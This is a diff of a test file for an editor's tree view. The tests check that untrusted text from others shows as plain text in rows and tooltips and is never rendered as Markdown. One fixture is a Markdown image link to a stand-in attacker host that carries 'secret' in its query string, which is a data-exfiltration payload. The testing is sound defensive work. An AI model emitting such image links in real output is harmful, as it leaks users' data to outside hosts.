@@ -4,8 +4,8 @@ import { marksIn } from '../../../src/editor/review/lenses/hiddenMarks.js';
 import { commentOf } from '../../../src/editor/shown/comment.js';
 import { showError, showInformation, showWarning } from '../../../src/editor/shown/messages.js';
 import { askText, pickOne } from '../../../src/editor/shown/questions.js';
-import { EditChoices } from '../../../src/editor/tree/editNodes.js';
 import { rowItem, withTooltip } from '../../../src/editor/tree/rowItem.js';
+import { rowsBeneath } from '../results/rowsBeneath.js';
 import { skillNode, type KnownSkill } from '../../../src/editor/tree/skillNode.js';
 import type { TreeNode } from '../../../src/editor/tree/treeNode.js';
 import { aKnownSkill } from '../../builders/aKnownSkill.js';
@@ -71,7 +71,7 @@ describe('text of others in the window', () => {
 
   it('is a plain text in every row of the tree and its tooltip, never Markdown', async () => {
     for (const [name, text] of hostileTexts) {
-      const rows = await allRows(skillNode(withText(text), new EditChoices(), () => Promise.resolve(withText(text))));
+      const rows = await allRows(skillNode(withText(text), rowsBeneath, () => Promise.resolve(withText(text))));
       for (const node of rows) {
         const row = node.row();
         const item = withTooltip(rowItem(node.id, row), row);
@@ -86,7 +86,7 @@ describe('text of others in the window', () => {
 
   it('shows the prompt of a task and the reason of an edit in their tooltips as they are written', async () => {
     const known = withText('![x](https://evil.example/a.png?d=secret) \u200b');
-    const rows = await allRows(skillNode(known, new EditChoices(), () => Promise.resolve(known)));
+    const rows = await allRows(skillNode(known, rowsBeneath, () => Promise.resolve(known)));
     const tooltips = rows.map((node) => withTooltip(rowItem(node.id, node.row()), node.row()).tooltip);
     const same = tooltips.filter((each) => each === '![x](https://evil.example/a.png?d=secret) ‹U+200B›');
     assert.ok(same.length >= 2, 'an edit and a task say it');
